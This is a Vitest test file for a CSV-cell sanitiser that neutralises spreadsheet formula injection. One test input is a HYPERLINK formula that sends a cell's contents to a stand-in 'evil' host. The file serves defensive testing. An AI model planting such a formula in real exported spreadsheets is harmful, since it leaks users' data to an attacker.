import { describe, expect, it } from 'vitest';
import { neutralizeFormula } from './csv-cell.js';

describe('neutralizeFormula', () => {
  it.each([
    ['=HYPERLINK("https://evil/?"&A2,"click")', `'=HYPERLINK("https://evil/?"&A2,"click")`],
    ['+1+1', `'+1+1`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\t=1', `'\t=1`],
  ])('disarms %j', (cell, expected) => {
    expect(neutralizeFormula(cell)).toBe(expected);
  });

  it.each(['-2500', '1000', '12.5', 'SPRING-1234', '', 'a=b'])('leaves %j as it is', (cell) => {
    expect(neutralizeFormula(cell)).toBe(cell);
  });
});
